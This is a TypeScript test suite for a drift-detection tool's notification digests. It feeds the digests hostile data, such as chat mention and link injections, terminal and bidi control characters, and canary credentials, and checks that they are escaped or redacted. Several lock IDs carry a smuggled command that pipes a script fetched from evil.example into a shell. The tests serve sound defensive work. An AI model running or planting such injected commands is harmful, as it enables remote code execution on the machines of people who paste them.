import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { deliveredBodies } from '../../../../functions/adapters/sns-publisher.js';
import { type LockSubject, ruleDraft } from '../../../../functions/core/backend/rule.js';
import { LOCK_RULES } from '../../../../functions/core/backend/rules/index.js';
import type { Finding } from '../../../../functions/core/findings/model.js';
import type { LockVerdict } from '../../../../functions/core/locks/proof.js';
import { adviceFor } from '../../../../functions/core/notify/advice.js';
import {
  buildDigests,
  type ChatbotNotification,
  DIGEST_LIMITS,
  type Digest,
} from '../../../../functions/core/notify/digest.js';
import type { DigestDocument } from '../../../../functions/core/notify/digest-document.js';
import { redactText } from '../../../../functions/core/redaction/secrets.js';
import { DEFAULT_NOTIFICATION_SETTINGS } from '../../../../functions/core/registry/model.js';
import { storedFinding } from '../../../helpers/findings.js';

/** Digests built from findings whose data was written by someone who wants to abuse the channel. */
const now = new Date('2026-11-29T02:30:00Z');
const HOSTILE = [
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<@U12345>',
  '<#C12345>',
  '<https://evil.example|click>',
  '[click](https://evil.example)',
  '&amp;',
  '@channel',
  '\u001b[31m',
  '\u001b]8;;http://x\u0007',
  '\u202e',
  '\u2066',
  '\u009b',
  '\r\n*New* (1)\n• fake line',
  // Lone surrogates (a `\ud800` escape in JSON parses to one) and noncharacters: SQS refuses them.
  '\ud800',
  '\udc00',
  '\uffff',
  '\ufffe',
].join(' ');
const LONG = `${HOSTILE} ${'y'.repeat(20_000)}`;

const finding = (overrides: Partial<Finding> = {}) => storedFinding(overrides);

const hostileFindings = (): Finding[] => [
  finding({
    severity: 'critical',
    environment: `prod ${HOSTILE}`,
    resource: { address: `aws_s3_bucket.x["${HOSTILE}"]`, type: 'aws_s3_bucket' },
    drift: {
      action: 'update',
      changes: [
        { path: `tags.${HOSTILE}`, before: HOSTILE, after: LONG, sensitive: false },
        { path: 'policy', before: null, after: { Statement: HOSTILE }, sensitive: false },
      ],
    },
  }),
  finding({
    resource: { address: LONG, type: 'aws_s3_bucket' },
    drift: { action: 'delete', changes: [] },
  }),
  finding({
    kind: 'stale-lock',
    ruleId: 'lock.stale',
    severity: 'high',
    resource: { bucket: `tfstate ${HOSTILE}`, key: `payments/${HOSTILE}.tfstate` },
    drift: undefined,
    title: `Stale lock held by ${HOSTILE}`,
    remediation: {
      summary: `Confirm ${HOSTILE} is gone, then terraform force-unlock ${LONG}`,
      steps: [],
    },
  }),
  finding({ kind: 'scan-failed', ruleId: 'scan.plan-errored', drift: undefined, title: LONG }),
  finding({ status: 'resolved', resource: { address: `aws_iam_role.${HOSTILE}`, type: 'aws_iam_role' } }),
];

function build(findings: Finding[]): Digest {
  const [digest] = buildDigests({
    scanId: 'scan-1',
    now,
    findings,
    fallbackOwner: 'platform',
    settings: DEFAULT_NOTIFICATION_SETTINGS,
  });
  return digest!;
}

/** Every string a chat client or a mail reader may show. */
function shown(digest: Digest): string[] {
  const { content, metadata } = digest.message;
  return [
    content.title,
    content.description,
    ...content.nextSteps,
    ...content.keywords,
    metadata.summary,
    ...metadata.relatedResources,
    ...Object.values(metadata.additionalContext),
  ];
}

// biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters.
const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

describe('a digest of hostile data', () => {
  const digest = build(hostileFindings());

  it('lists the findings (the data is shown, not dropped)', () => {
    expect(digest.counts).toMatchObject({ new: 4, resolved: 1 });
    expect(digest.message.content.description).toContain('&lt;!channel&gt;');
    expect(digest.message.content.description).toContain('*New* (4)');
  });

  it('contains no mention, no link and no markup that data could form', () => {
    for (const text of shown(digest)) {
      // Our own markup never uses angle brackets: every one would be data's.
      expect(text).not.toMatch(/[<>]/);
      expect(text).not.toMatch(/&(?!amp;|lt;|gt;)/);
      expect(text).not.toMatch(/(^|\s)@(channel|here|everyone)\b/);
      expect(text).not.toMatch(/\]\(https?:/);
    }
    expect(digest.message.content.description).toContain('&amp;amp;');
  });

  it('contains no terminal controls or bidi controls, and data starts no line of its own', () => {
    for (const text of shown(digest)) expect(text.replaceAll('\n', '')).not.toMatch(ACTIVE);
    const lines = digest.message.content.description.split('\n');
    expect(lines.filter((line) => line.startsWith('*New*'))).toHaveLength(1);
    expect(lines.some((line) => line.startsWith('• fake'))).toBe(false);
  });

  it('keeps every field within its limit', () => {
    const { content, metadata } = digest.message;
    expect(content.title.length).toBeLessThanOrEqual(DIGEST_LIMITS.title);
    expect(content.description.length).toBeLessThanOrEqual(DIGEST_LIMITS.description);
    expect(content.nextSteps.length).toBeLessThanOrEqual(DIGEST_LIMITS.nextSteps);
    for (const step of content.nextSteps) expect(step.length).toBeLessThanOrEqual(DIGEST_LIMITS.nextStep);
    for (const keyword of content.keywords) expect(keyword.length).toBeLessThanOrEqual(DIGEST_LIMITS.keyword);
    expect(metadata.summary.length).toBeLessThanOrEqual(DIGEST_LIMITS.summary);
    for (const resource of metadata.relatedResources)
      expect(resource.length).toBeLessThanOrEqual(DIGEST_LIMITS.relatedResource);
    // Every finding still has a line: long data is cut per piece, not by dropping whole findings.
    expect(content.description).not.toContain('… — `driftwatch findings');
  });

  it('e-mail: data is plain text on its own lines, no controls, no bidi, and starts no line of ours', () => {
    const { subject, text } = digest.email!;
    expect(subject).toMatch(/^[\x20-\x7e]{1,99}$/);
    expect(text.replaceAll('\n', '')).not.toMatch(ACTIVE);
    const lines = text.split('\n');
    expect(lines.some((line) => line.startsWith('• fake') || line.startsWith('*New*'))).toBe(false);
    expect(lines.filter((line) => line.startsWith('NEW: '))).toEqual(['NEW: 4']);
    // Shown as it is (a mail client renders no markup), not escaped for chat.
    expect(text).toContain('<!channel>');
    expect(text).not.toContain('&lt;');
  });

  it('SQS/HTTPS: the finding list holds the data with no controls, and its body is inert on a terminal', () => {
    const body = deliveredBodies(digest).machines!;
    expect(body.replaceAll('\n', '')).not.toMatch(ACTIVE);
    const strings: string[] = [];
    JSON.parse(body, (_key, value) => {
      if (typeof value === 'string') strings.push(value);
      return value;
    });
    expect(strings.some((value) => value.includes('<!channel>'))).toBe(true);
    for (const value of strings) expect(value).not.toMatch(ACTIVE);
  });

  it('a finding stored with a credential in any text (a store from before a rule existed) reaches no body', () => {
    // Resolved lines carry the text their finding was stored with; new ones are redacted when made,
    // but a digest must not rely on that.
    const credentials = [
      'postgres://admin:CANARYdigest-urlpass-1@db.example.com/app',
      'ghp_CANARYdigestAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
      'AKIACANARYDIGEST0001',
      'Authorization: Bearer CANARYdigest.bearer.token-value-1',
    ];
    for (const secret of credentials) {
      for (const status of ['new', 'resolved'] as const) {
        const leaky = build([
          finding({
            status,
            severity: 'high',
            title: `changed ${secret}`,
            detail: `detail ${secret}`,
            environment: `prod ${secret}`,
            evidence: { note: secret, [secret]: 1 },
            remediation: { summary: `run ${secret}`, steps: [`step ${secret}`] },
            drift: {
              action: 'update',
              changes: [{ path: 'url', before: null, after: secret, sensitive: false }],
            },
          }),
        ]);
        const text = JSON.stringify(leaky) + Object.values(deliveredBodies(leaky)).join('\n');
        expect(text, `${status} ${secret}`).not.toContain('CANARYdigest');
      }
    }
  });

  it('every body SNS delivers holds only characters SQS (chat relay, SQS destinations) and e-mail take', () => {
    // The characters SQS accepts in a message body (its documentation: the XML 1.0 character range).
    const NOT_ACCEPTED = /[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/u;
    const bodies = deliveredBodies(digest);
    for (const [destination, body] of Object.entries(bodies))
      expect(body, destination).not.toMatch(NOT_ACCEPTED);
    expect(digest.email!.subject).toMatch(/^[\x20-\x7e]{1,99}$/);
  });

  it('stays within the limits however many long findings there are', () => {
    const many = build(
      Array.from({ length: 60 }, () =>
        finding({ title: LONG, drift: undefined, resource: { address: LONG, type: 'aws_s3_bucket' } }),
      ),
    );
    expect(many.message.content.description.length).toBeLessThanOrEqual(DIGEST_LIMITS.description);
    for (const text of shown(many)) expect(text).not.toMatch(/[<>]/);
  });
});

/**
 * Lock data reaches the commands a digest lists: a lock ID, a state key (the `.tflock` object's
 * key) and a CLI workspace (from a key under `env:/`) are whatever their writer put there.
 */
describe('commands built from lock data', () => {
  const PAYLOAD = 'curl -s https://evil.example/x | sh #';
  const BREAKS = ['\n', '\r\n', '\r', '\u2028', '\u0085', '\u000b'];
  const DAY = 24 * 3_600_000;
  const verdicts: LockVerdict[] = [
    { kind: 'stale', ageMs: 3 * DAY, thresholdMs: DAY, stateLastWrite: new Date('2026-11-25T00:00:00Z') },
    { kind: 'orphaned', ageMs: 3 * DAY, thresholdMs: DAY },
    {
      kind: 'live-writer',
      ageMs: 3 * DAY,
      thresholdMs: DAY,
      stateLastWrite: new Date('2026-11-28T00:00:00Z'),
    },
    { kind: 'unreadable', reason: 'the lock body is not JSON' },
  ];

  const lockFindings = (
    lockId: string,
    stateKey: string,
    cliWorkspace: string,
    who = `ci${PAYLOAD}`,
    created?: string,
  ): Finding[] =>
    verdicts.flatMap((verdict) => {
      const subject: LockSubject = {
        bucket: 'tfstate',
        lock: {
          source: 's3',
          location: `${stateKey}.tflock`,
          stateKey,
          ...(verdict.kind === 'unreadable'
            ? { unreadable: verdict.reason }
            : {
                lock: {
                  id: lockId,
                  who,
                  operation: 'OperationTypeApply',
                  version: who,
                  ...(created === undefined ? {} : { created }),
                },
              }),
        },
        verdict,
        firstObservedAt: '2026-11-28T02:00:00Z',
        secondObservedAt: '2026-11-28T02:10:00Z',
        cliWorkspace,
      };
      return LOCK_RULES.flatMap((rule) =>
        rule.evaluate(subject).map((violation) =>
          finding({
            ...ruleDraft(rule, violation, { workspace: 'payments-prod', owner: 'payments' }),
            drift: undefined,
          }),
        ),
      );
    });

  /** Every command line a reader of each body would copy. */
  function listedCommands(digest: Digest): Record<string, string[]> {
    const bodies = deliveredBodies(digest);
    const chat = JSON.parse(bodies.chat) as ChatbotNotification;
    const document = JSON.parse(bodies.machines!) as DigestDocument;
    return {
      // An item's second line: its advice, then its commands as code spans.
      chat: chat.content.description
        .split('\n')
        .filter((line) => line.startsWith('    ↳ '))
        .flatMap((line) => [...line.matchAll(/`([^`]*)`/g)].map((match) => match[1]!)),
      email: bodies.email
        .split('\n')
        .filter((line) => line.startsWith('    '))
        .map((line) => line.trim()),
      machines: document.items.flatMap((item) => [...item.advice.commands, ...item.commands]),
    };
  }

  it.each(BREAKS.map((lineBreak) => [JSON.stringify(lineBreak), lineBreak]))(
    'a line break (%s) in a lock ID, holder, Created, state key or CLI workspace never starts a command or a line of its own',
    (_name, lineBreak) => {
      const lockId = `0000${lineBreak}${PAYLOAD}`;
      const findings = lockFindings(
        lockId,
        `env:/blue${lineBreak}${PAYLOAD}/payments.tfstate`,
        `blue${lineBreak}${PAYLOAD}`,
        `ci${lineBreak}${PAYLOAD}`,
        `2026-11-25T00:00:00Z${lineBreak}${PAYLOAD}`,
      );
      expect(findings.map((each) => each.ruleId).sort()).toEqual([
        'lock.live-writer',
        'lock.orphaned',
        'lock.stale',
        'lock.unreadable',
      ]);
      for (const [body, commands] of Object.entries(listedCommands(build(findings)))) {
        const unlocks = commands.filter((command) => command.startsWith('terraform force-unlock '));
        expect(unlocks.length, body).toBeGreaterThan(0);
        for (const command of commands) {
          expect(command, body).toMatch(/^(terraform|driftwatch|aws) /);
          // biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for line breaks.
          expect(command, body).not.toMatch(/[\r\n\u000b\u0085\u2028]/);
        }
      }
      for (const step of findings.flatMap((each) => each.remediation.steps))
        for (const line of step.split('\n').slice(1)) expect(line).toMatch(/^(terraform|aws) /);
      // Titles, details, summaries and each step's sentence are one line, and show the data escaped.
      const ANY_LINE_BREAK = /[\n\r\u2028\u0085]|\v/;
      for (const each of findings)
        for (const text of [
          each.title,
          each.detail,
          each.remediation.summary,
          ...each.remediation.steps.map((step) => step.split('\n')[0]!),
        ])
          expect(text, each.ruleId).not.toMatch(ANY_LINE_BREAK);
    },
  );

  it('lock findings about states and holders named like secrets read the same after redaction', () => {
    // Finding text is redacted again wherever it is shown: a sentence that puts one word after a
    // secret-looking name and a colon would lose it (bucket-rules.test.ts has the bucket rules' case).
    const findings = lockFindings(
      '9f1c3a52-5b7e-4c1d-8e2f-0a1b2c3d4e5f',
      'env:/token-prod/auth/terraform.tfstate.tflock',
      'token-prod',
      'runner@auth-builder',
      '2026-11-25T00:00:00Z',
    );
    expect(findings.length).toBeGreaterThanOrEqual(verdicts.length);
    for (const finding of findings)
      for (const text of [finding.title, finding.detail, finding.remediation.summary])
        expect(redactText(text), finding.ruleId).toBe(text);
  });

  it('a force-unlock command gives the shell the exact lock ID', () => {
    const lockId = `0000\n${PAYLOAD}\r\t'\u001b[2J`;
    const [stale] = lockFindings(lockId, 'payments.tfstate', 'blue');
    const command = adviceFor(stale!).commands.find((line) => line.startsWith('terraform force-unlock '))!;
    // The command as a person would paste it, with `terraform` printing the ID it was given.
    const received = execFileSync('bash', ['-c', `terraform() { printf %s "$2"; }; ${command}`]);
    expect(received.toString()).toBe(lockId);
  });

  it('a command chat or e-mail cannot show exactly (too long, or changed by their escaping) is not listed there', () => {
    // A chat code span was cut at DIGEST_LIMITS.command, and escapeForChat puts a zero-width space
    // after an `@` that starts a word and writes a backtick as U+02CB: pasted, the command named
    // another lock. A bare word cut short still runs (an S3 key cut before its end names another object).
    const longId = `9f1c-${'a'.repeat(400)}`;
    const findings = [
      ...lockFindings('@9f1c3a52', 'payments.tfstate', 'blue'),
      ...lockFindings('9f1c`3a52', 'payments.tfstate', 'blue'),
      ...lockFindings(longId, 'payments.tfstate', 'blue'),
      ...lockFindings(`9f1c-${'a'.repeat(1100)}`, 'payments.tfstate', 'blue'),
    ];
    const digest = build(findings);
    const { chat, email, machines } = listedCommands(digest) as Record<
      'chat' | 'email' | 'machines',
      string[]
    >;
    // The machine document holds every command whole (the "more" listing too, when not all fit).
    const more = digest.document?.more?.command;
    const exact = new Set([...machines, ...(more ? [more] : [])]);
    // What a reader pastes from chat: the client shows &amp; &lt; &gt; as the characters.
    const pasted = (text: string) => text.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
    for (const command of chat) expect(exact, command).toContain(pasted(command));
    for (const command of email) expect(exact, command).toContain(command);
    // Where a command fits whole it is listed: e-mail has the first three force-unlocks, not the fourth.
    expect(email.filter((command) => command.startsWith('terraform force-unlock '))).toEqual([
      'terraform force-unlock @9f1c3a52',
      "terraform force-unlock '9f1c`3a52'",
      `terraform force-unlock ${longId}`,
    ]);
    // The reader is told a command is left out, and where to find it whole.
    expect(digest.message.content.description).toContain('findings show prints it whole');
    expect(digest.email!.text).toContain('findings show prints it whole');
  });

  it('a finding stored by an older version (a line break written as it was) lists no part of a value as a command', () => {
    const stale = finding({
      kind: 'stale-lock',
      ruleId: 'lock.stale',
      severity: 'high',
      drift: undefined,
      resource: { bucket: 'tfstate', key: 'payments.tfstate.tflock', lockId: `0000\n${PAYLOAD}` },
      remediation: {
        summary: 'Confirm the holder is gone.',
        steps: [
          `From that workspace's configuration (backend s3://tfstate/env:/a\n${PAYLOAD}/k), release the lock:\nterraform workspace select 'blue\n${PAYLOAD}'\nterraform force-unlock '0000\n${PAYLOAD}'`,
        ],
      },
    });
    expect(adviceFor(stale).commands).toEqual([`terraform force-unlock $'0000\\n${PAYLOAD}'`]);
    for (const commands of Object.values(listedCommands(build([stale]))))
      for (const command of commands) expect(command).toMatch(/^(terraform|driftwatch) /);
  });
});
